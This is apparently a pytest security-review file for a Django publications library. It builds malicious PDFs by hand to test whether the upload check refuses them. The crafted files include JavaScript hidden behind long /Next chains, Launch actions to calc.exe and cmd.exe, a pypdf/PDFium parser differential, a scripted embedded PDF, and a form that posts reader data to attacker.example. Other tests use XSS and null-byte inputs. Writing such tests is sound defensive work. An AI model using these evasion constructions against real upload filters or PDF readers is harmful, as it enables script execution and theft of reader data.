"""Attacks on the publications library (security review): PDFs that carry scripts
past the upload check, PDFs that break the worker, an Editor's draft changes, and
what an anonymous visitor can fetch. A failing test here is a problem to fix; the
passing ones pin defences that hold."""

import io
import re

import pypdfium2
import pypdfium2.raw as pdfium_c
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from kernel.models import DraftChange
from publications import pdf
from publications.models import Publication, PublicationFile

from .pdfs import make_pdf, pdf_with_javascript
from .support import form_values, submit
from .test_publications import errors_of, make_publication, publication_form, work

pytestmark = pytest.mark.django_db
ADD = "/admin/publications/publication/add/"


# PDFs written byte by byte (a correct cross-reference table), so that each file is
# exactly the structure under test -------------------------------------------------


def raw_pdf(objects):
    """A PDF of ``objects`` (bodies of objects 1..n; 1 is the catalog)."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def one_page(catalog=b"", extra=(), mediabox=b"[0 0 595 842]"):
    """A one-page PDF ("Hello"); ``catalog``: more entries of the catalog; ``extra``:
    objects 6, 7, ..."""
    content = b"BT /F1 24 Tf 72 720 Td (Hello) Tj ET"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox " + mediabox + b" /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *extra,
        ]
    )


SCRIPT = b"<< /S /JavaScript /JS (app.alert('pwned');) >>"
JS_NAME_TREE = b"/Names << /JavaScript << /Names [(run) " + SCRIPT + b"] >> >>"


def javascript_pdfium_sees(data):
    """How many document-level scripts PDFium (Chrome's viewer) finds in the file."""
    document = pypdfium2.PdfDocument(data)
    try:
        return pdfium_c.FPDFDoc_GetJavaScriptActionCount(document.raw)
    finally:
        document.close()


def check(data):
    """The upload check's answer: the ValidationError code, or "accepted"."""
    try:
        pdf.inspect(SimpleUploadedFile("report.pdf", data, "application/pdf"))
    except ValidationError as error:
        return error.code
    return "accepted"


def rewritten(change, data=None):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data or make_pdf("Open me"))))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(**entries):
    return DictionaryObject({NameObject(f"/{k}"): v for k, v in entries.items()})


# 1. Scripts and actions that get past the upload check -----------------------------


def script_after_a_chain_of_next_actions():
    """/OpenAction: 60 harmless GoTo actions chained by /Next (direct dictionaries),
    the last one JavaScript. A viewer runs the whole chain; the check stops looking
    51 levels down and says nothing (pdf._active_in: ``if depth > 50: return ""``)."""
    last = SCRIPT
    for _ in range(60):
        last = b"<< /S /GoTo /D [3 0 R /Fit] /Next " + last + b" >>"
    return one_page(b"/OpenAction " + last)


def launch_action_with_an_indirect_type():
    """A launch action whose /S is a reference to the name /Launch (any PDF value may
    be indirect; PDFium and Acrobat resolve it): the check compares /S with a name
    and sees a reference."""
    return one_page(
        b"/OpenAction 6 0 R",
        extra=[b"<< /S 7 0 R /F (calc.exe) /Win << /F (cmd.exe) >> >>", b"/Launch"],
    )


def script_behind_a_dictionary_pypdf_misreads():
    """A stray ")" as a value in the catalog, before its /Names entry: pypdf (strict
    off) ends the dictionary there and never sees /Names; PDFium skips the bad token
    and registers the document-level JavaScript. (A stray "{" does the same.)"""
    return one_page(b"/X ) " + JS_NAME_TREE)


def scripted_pdf_attached_and_opened():
    """A PDF with JavaScript, attached to a clean one (an embedded file), opened by a
    /GoToE action when the clean one is opened: the inner file is never looked at."""

    def attach(writer):
        writer.add_attachment("annex.pdf", pdf_with_javascript())
        target = DictionaryObject(
            {NameObject("/R"): NameObject("/C"), NameObject("/N"): TextStringObject("annex.pdf")}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(
            action(S=NameObject("/GoToE"), NewWindow=NameObject("/true"), T=target)
        )

    return rewritten(attach)


def form_that_submits_to_another_site_on_open():
    """/SubmitForm on open: the reader's form data (and IP) posted to any URL."""
    return rewritten(
        lambda w: w._root_object.__setitem__(
            NameObject("/OpenAction"),
            w._add_object(
                action(
                    S=NameObject("/SubmitForm"),
                    F=DictionaryObject(
                        {
                            NameObject("/FS"): NameObject("/URL"),
                            NameObject("/F"): TextStringObject("https://attacker.example/c"),
                        }
                    ),
                )
            ),
        )
    )


@pytest.mark.parametrize(
    "make",
    [
        script_after_a_chain_of_next_actions,
        launch_action_with_an_indirect_type,
        script_behind_a_dictionary_pypdf_misreads,
        scripted_pdf_attached_and_opened,
        form_that_submits_to_another_site_on_open,
    ],
    ids=lambda make: make.__name__,
)
def test_a_pdf_with_a_hidden_action_is_refused(make):
    data = make()
    assert pypdfium2.PdfDocument(data)  # a PDF viewers open
    assert check(data) in {"active_content", "damaged"}


def test_pdfium_does_see_the_script_that_pypdf_misreads():
    """The differential above is real: the viewer engine the site itself uses finds
    the script in the file that the check accepts."""
    data = script_behind_a_dictionary_pypdf_misreads()
    assert javascript_pdfium_sees(data) == 1
    assert check(data) != "accepted"


def test_the_admin_stores_a_pdf_whose_script_pdfium_sees(as_editor):
    """End to end: an Editor uploads the file; it is stored (and, once published,
    served as a download)."""
    data = script_behind_a_dictionary_pypdf_misreads()
    form = publication_form(
        files=[("en", SimpleUploadedFile("report.pdf", data, "application/pdf"))]
    )
    response = as_editor.post(ADD, form)
    assert response.status_code == 200, "stored a PDF with document-level JavaScript"
    assert not PublicationFile.objects.exists()


# Defences that hold: each of these is refused ---------------------------------------


def _open_script(writer):
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        action(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
    )


def _page_additional_action(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action(S=NameObject("/JavaScript"), JS=TextStringObject("x"))}
    )


def _link_annotation(writer):
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): action(S=NameObject("/Launch"), F=TextStringObject("calc.exe")),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _script_in_an_object_stream():
    """The OpenAction's JavaScript stored in a compressed object stream (PDF 1.5),
    listed by a cross-reference stream, not a table."""
    import struct
    import zlib

    content = b"BT /F1 24 Tf 72 720 Td (Hello) Tj ET"
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    packed = b"6 0 " + SCRIPT
    stream = zlib.compress(packed)
    plain.append(
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
        + stream
        + b"\nendstream"
    )  # object 7
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, body in enumerate(plain, 1):
        number = 7 if number == 6 else number
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[8] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 9):
        if number == 6:
            rows.append(struct.pack(">BIH", 2, 7, 0))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = b"".join(rows)
    out += (
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[8]
    )
    return bytes(out)


def _incremental_update():
    """A clean file with an update appended after its %%EOF adding the script."""
    base = make_pdf("Open me")
    writer = PdfWriter(io.BytesIO(base), incremental=True)
    _open_script(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        one_page(JS_NAME_TREE),
        one_page(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        one_page(b"/OpenAction << /S /L#61unch /F (calc.exe) >>"),
        one_page(b"/Names << /JavaScript 6 0 R >>", extra=[b"<< /Names [(a) 7 0 R] >>", SCRIPT]),
        rewritten(_page_additional_action),
        rewritten(_link_annotation),
        _script_in_an_object_stream(),
        _incremental_update(),
    ],
    ids=[
        "name tree",
        "escaped JavaScript names",
        "escaped Launch name",
        "indirect name tree",
        "page /AA",
        "link annotation /A",
        "object streams",
        "incremental update",
    ],
)
def test_these_are_refused(data):
    assert check(data) in {"active_content", "damaged"}


def test_deep_nesting_is_an_answer_not_a_crash():
    """10 000 nested arrays: no RecursionError out of the request."""
    assert check(one_page(b"/X " + b"[" * 10_000 + b"]" * 10_000)) in {"accepted", "damaged"}


# 2. PDFs that break the worker ------------------------------------------------------


def stored_publication(data, **fields):
    publication = Publication.objects.create(
        title="Huge page", slug="huge-page", status=Publication.Status.DRAFT, **fields
    )
    stored = PublicationFile(publication=publication, language="en")
    stored.file.save("x.pdf", ContentFile(data), save=False)
    stored.save()
    return publication, stored


def test_a_page_a_kilometre_wide_is_refused_and_never_drawn_huge():
    """The upload check refuses pages beyond PDF's 200 inches; a file stored some other
    way still gets a cover at most 800 x 1600 pixels (it was 10 000 x 10 000 for a
    1 000 000-point page: 400 MB, then a 300 MB copy)."""
    data = one_page(mediabox=b"[0 0 400000 400000]")
    assert check(data) == "page_size"
    _publication, stored = stored_publication(data)
    image = pdf.render_cover(stored.file)
    assert image.width <= 800 and image.height <= 1600, image.size


def test_a_file_with_an_enormous_page_is_still_read():
    """A page of 100 000 000 points (stored without the upload check): drawing its
    cover once raised MemoryError inside the reading transaction, so the file stayed
    "Reading the file…" for ever; the cover is now drawn small, and any failure to
    draw one leaves the file read, without a cover."""
    data = one_page(mediabox=b"[0 0 100000000 100000000]")
    assert check(data) == "page_size"
    _publication, stored = stored_publication(data)
    work()  # raised (the task failed with MemoryError) before
    stored.refresh_from_db()
    assert stored.state != PublicationFile.READING, "still reading after the worker's round"


# 3. An Editor's draft changes to a live publication ---------------------------------


def change_url(publication):
    return f"/admin/publications/publication/{publication.pk}/change/"


def draft_with_new_file(as_editor, publication, *pages):
    data = form_values(as_editor.get(change_url(publication)))
    data = {k: v for k, v in data.items() if not k.endswith("-DELETE")}
    data["files-0-file"] = SimpleUploadedFile("new.pdf", make_pdf(*pages), "application/pdf")
    return submit(as_editor, change_url(publication), data)


def test_an_editor_s_new_pdf_for_a_live_publication_waits_for_a_publisher(as_editor, client):
    """Defence: the live row, the download and search keep the live file; the worker
    reads nothing of the draft."""
    publication = make_publication()
    live = publication.files.get()
    response = draft_with_new_file(as_editor, publication, "Zanzibar draft-only words")
    assert response.status_code == 302, errors_of(response)
    assert DraftChange.objects.count() == 1
    work()
    now = PublicationFile.objects.get()
    assert (now.pk, now.file.name, now.state, now.text) == (
        live.pk,
        live.file.name,
        live.state,
        live.text,
    )
    download = client.get("/publications/publication-1/en.pdf")
    body = b"".join(download.streaming_content)
    assert body == live.file.open("rb").read()
    assert "Publication 1" not in client.get("/search/", {"q": "Zanzibar"}).content.decode()


def test_publishing_a_draft_s_new_pdf_reads_the_new_file(as_editor, as_publisher):
    """Once a Publisher publishes the Editor's replacement file, the row describes the
    new file (it kept the old one's state, text, size and page count: the restore
    copies the current row's derived fields, and the new file was never read)."""
    publication = make_publication()
    old = publication.files.get()
    pages = ("Zanzibar remittance corridors", "Second page", "Third page")
    assert draft_with_new_file(as_editor, publication, *pages).status_code == 302
    data = form_values(as_publisher.get(change_url(publication)))
    data = {k: v for k, v in data.items() if not k.endswith("-DELETE")}
    assert submit(as_publisher, change_url(publication), data).status_code == 302
    assert not DraftChange.objects.exists()
    work()
    now = PublicationFile.objects.get()
    assert now.file.name != old.file.name  # the new file is online
    assert "Zanzibar" in now.text, "text of the old file"
    assert now.size == now.file.size, "size of the old file"
    assert now.pages == 3, "page count of the old file"
    publication.refresh_from_db()
    assert "Zanzibar" in publication.document_text_en


# 4. What an anonymous visitor can fetch ---------------------------------------------


def test_a_withdrawn_pdf_is_nowhere_public(client, as_publisher):
    """A Publisher withdraws a publication (e.g. on a legal request): its download is
    a 404, and the file is not in the public media either (it was, at an address its
    ETag gave away); files of drafts and replaced versions neither."""
    publication = make_publication()
    response = client.get("/publications/publication-1/en.pdf")
    etag = response["ETag"].strip('"')
    stored = publication.files.get().file.name
    assert etag not in stored, "the ETag names the stored file"
    publication.status = Publication.Status.DRAFT
    publication.save()
    assert client.get("/publications/publication-1/en.pdf").status_code == 404
    media = client.get(f"/media/{stored}")
    assert media.status_code == 404, "the withdrawn PDF is still served from /media/"


# 5. Odd requests --------------------------------------------------------------------


def test_head_of_a_download_is_answered(client):
    """Link checkers, download managers and feed readers (enclosure size) send HEAD;
    @require_GET answers 405 (require_safe would allow HEAD)."""
    make_publication()
    assert client.head("/publications/publication-1/en.pdf").status_code == 200


@pytest.mark.parametrize(
    "query",
    [
        "year=99999999999",
        "year=-1",
        "page=99999999999999999999",
        "page=-1",
        "page=abc",
        "page=1e9",
        "language=en&language=xx",
        "country=a&country=b",
        "country[]=a",
        "type=%00",
        "year=%00",
        "language=en%00",
    ],
)
def test_odd_query_strings_are_never_a_server_error(client, query):
    make_publication()
    assert client.get(f"/publications/?{query}").status_code in {200, 301, 302, 404}


@pytest.mark.parametrize(
    "path",
    [
        "/publications/publication-1/en%00.pdf",
        "/publications/publication-1/EN.pdf",
        "/publications/publication-1/" + "x" * 5000 + ".pdf",
        "/publications/" + "a" * 5000 + "/en.pdf",
    ],
)
def test_odd_download_addresses_are_a_404(client, path):
    make_publication()
    assert client.get(path).status_code == 404


def test_no_markup_from_the_text_fields_reaches_the_page(client):
    """Defence: title, summary, authors and the citation are escaped, the JSON-LD
    cannot be closed early."""
    attack = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
    publication = make_publication(title=attack, summary=attack, authors=attack)
    for url in (publication.get_absolute_url(), "/publications/", "/publications/feed/"):
        page = client.get(url).content.decode()
        assert "<script>alert(1)" not in page and "<img src=x" not in page, url
    page = client.get(publication.get_absolute_url()).content.decode()
    for block in re.findall(r"<script[^>]*ld\+json[^>]*>(.*?)</script>", page, re.S):
        assert "<" not in block


def test_drafts_leave_no_trace_in_public_lists_feeds_sitemap_or_search(client):
    """Defence: a draft with a read file is nowhere public."""
    make_publication(
        status=Publication.Status.DRAFT,
        title="Confidential draft",
        slug="confidential",
        files=[("en", "Secretwordzz in the draft")],
    )
    for url in (
        "/publications/",
        "/publications/feed/",
        "/publications/feed/atom/",
        "/sitemap-publications.xml",
        "/search/?q=Secretwordzz",
        "/publications/confidential/",
        "/publications/confidential/en.pdf",
    ):
        response = client.get(url)
        body = response.content.decode() if not response.streaming else ""
        assert "Confidential draft" not in body and "<mark>Secretwordzz" not in body, url
        if "confidential" in url:
            assert response.status_code == 404, url
        else:
            assert "confidential/en.pdf" not in body, url


def test_an_editor_cannot_delete_a_live_publication_s_file(as_editor, client):
    """Defence: ticking "delete" on the live publication's PDF row is a draft change;
    the list's bulk delete is not offered; deleting the publication is refused."""
    publication = make_publication()
    data = form_values(as_editor.get(change_url(publication)))
    data["files-0-DELETE"] = "on"
    assert submit(as_editor, change_url(publication), data).status_code == 302
    assert PublicationFile.objects.filter(publication=publication).exists()
    assert client.get("/publications/publication-1/en.pdf").status_code == 200
    url = f"/admin/publications/publication/{publication.pk}/delete/"
    assert as_editor.post(url, {"post": "yes"}).status_code == 403
    action = {"action": "delete_selected", "_selected_action": [publication.pk], "post": "yes"}
    as_editor.post("/admin/publications/publication/", action)
    action = {"action": "unpublish_selected", "_selected_action": [publication.pk]}
    as_editor.post("/admin/publications/publication/", action)
    publication.refresh_from_db()
    assert publication.is_published()
    assert Publication.objects.filter(pk=publication.pk).exists()
